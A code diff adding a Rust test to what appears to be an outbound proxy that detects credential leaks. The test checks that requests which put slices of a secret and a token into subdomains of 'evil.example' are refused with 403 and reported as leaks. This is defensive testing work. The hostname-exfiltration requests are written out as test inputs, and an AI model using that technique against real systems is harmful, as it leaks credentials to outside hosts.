@@ -95,6 +95,37 @@ async fn a_host_that_nobody_stands_in_for_is_watched_like_a_trap() {
     nothing_shows(&wire, &[&token]);
 }
 
+/// Whoever resolves the name reads it, whether anything answers there or not.
+#[tokio::test]
+async fn what_stands_in_the_name_of_a_host_is_given_away() {
+    let wire = Wire::start(watching()).await;
+    let (_, secret) = credentials("msp");
+    let token = wire.mint("msp").await;
+    assert!(wire.raw(b"CONNECT Evil.Example.:443 HTTP/1.1\r\n\r\n").await.starts_with("HTTP/1.1 403 "));
+    for part in [&secret[4..28], &token.split('.').nth(2).unwrap()[..40]] {
+        let head = format!("CONNECT {part}.evil.example:443 HTTP/1.1\r\n\r\n");
+        assert!(wire.raw(head.as_bytes()).await.starts_with("HTTP/1.1 403 "), "{head}");
+    }
+    let refused: Vec<_> = entries(&wire)
+        .into_iter()
+        .filter_map(|entry| match entry.event {
+            Event::Connection { what, host, .. } if what == "refused" => host,
+            _ => None,
+        })
+        .collect();
+    let (secret_there, token_there) = ("client:msp.evil.example:443", "msp#1.evil.example:443");
+    assert_eq!(refused, ["evil.example:443", secret_there, token_there]);
+    let told = |name: &str, host: &str| format!("{name} in url to {host} as raw");
+    assert_eq!(in_short(&leaks(&wire)), [told("client:msp", secret_there), told("msp#1", token_there)]);
+    nothing_shows(&wire, &[&secret, &token]);
+
+    let wire = Wire::start(watching()).await;
+    let head = format!("GET http://{}.evil.example/ HTTP/1.1\r\nHost: x\r\n\r\n", &secret[4..28]);
+    assert!(wire.raw(head.as_bytes()).await.starts_with("HTTP/1.1 403 "));
+    assert_eq!(in_short(&leaks(&wire)), [told("client:msp", "client:msp.evil.example")]);
+    nothing_shows(&wire, &[&secret]);
+}
+
 #[tokio::test]
 async fn rules_are_asked_about_traps() {
     let wire = Wire::start(watching()).await;
